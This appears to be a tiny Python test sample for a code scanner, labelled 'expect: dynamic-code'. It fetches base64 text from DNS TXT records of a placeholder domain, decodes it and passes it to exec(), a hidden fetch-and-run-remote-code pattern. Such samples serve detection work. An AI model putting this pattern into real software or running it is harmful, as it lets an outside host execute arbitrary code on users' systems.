import base64

import dns.resolver

parts = []
for record in dns.resolver.resolve("n.acme-names.example", "TXT"):
    parts.append(record.to_text().strip('"'))
exec(base64.b64decode("".join(parts)))  # expect: dynamic-code
